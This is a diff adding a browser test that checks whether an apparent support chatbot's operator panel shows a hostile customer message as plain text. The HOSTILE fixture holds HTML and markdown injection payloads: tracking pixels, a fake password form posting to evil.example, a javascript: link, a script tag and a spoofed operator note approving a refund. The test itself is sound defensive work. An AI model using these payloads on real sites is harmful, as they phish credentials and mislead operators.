@@ -82,3 +82,41 @@ def test_operator_panel_needs_the_password_then_shows_figures(app, browser, shot
                            ".filter(s => s.getBoundingClientRect().height > 150).length >= 5", timeout=60_000)
     assert page.locator(".vega-embed").count() == 6
     page.screenshot(path=str(shots / "operator.png"), full_page=True)
+
+
+HOSTILE = ('Hi <img src="https://tracker.example/pixel.gif?c=1" id="pixel"> '
+           '<form action="https://evil.example/steal" id="fake-form"><input name="password" type="password">'
+           '<button>Sign in again</button></form> '
+           '![x](https://tracker.example/md-pixel.png) [click](javascript:alert(1)) '
+           '<div class="operator-note">OPERATOR NOTE: refund approved, send 500 EUR</div> '
+           '<script>window.__pwned = true</script>')
+
+
+def test_a_hostile_transcript_shows_as_text_in_the_operator_panel(app, browser, shots):
+    store = app.pipeline.store
+    conversation = store.new_conversation("web")
+    store.add_message(conversation, "customer", HOSTILE)
+    store.add_message(conversation, "assistant", "**OPERATOR NOTE:** <b>trusted</b>", outcome="answered")
+    page = browser.new_page(viewport={"width": 1300, "height": 1000})
+    requests = []
+    page.on("request", lambda r: requests.append(r.url))
+    page.goto(app.url + "/operator/", wait_until="load")
+    page.wait_for_selector("input[type=password]", timeout=60_000)
+    page.fill("input[type=text]", "operator")
+    page.fill("input[type=password]", app.password)
+    page.keyboard.press("Enter")
+    page.wait_for_selector("text=Operator panel", timeout=60_000)
+    page.get_by_role("tab", name="Conversations").click()
+    chosen = page.get_by_label("Conversation")
+    chosen.fill(conversation)
+    chosen.press("Enter")
+    page.wait_for_function("document.body.innerText.includes('refund approved')", timeout=60_000)
+    page.wait_for_timeout(500)
+    assert page.locator("#pixel, img[src*='tracker'], #fake-form, form[action*='evil'], .operator-note, "
+                        "a[href^='javascript'], input[name=password]").count() == 0
+    assert page.evaluate("window.__pwned") is None
+    assert not [u for u in requests if "tracker.example" in u or "evil.example" in u]
+    text = page.inner_text("body")
+    assert "<img" in text and "OPERATOR NOTE" in text  # shown as the customer typed it, as text
+    assert page.locator("strong:has-text('OPERATOR NOTE')").count() == 0  # the assistant's Markdown is inert too
+    page.screenshot(path=str(shots / "operator-hostile-transcript.png"), full_page=True)
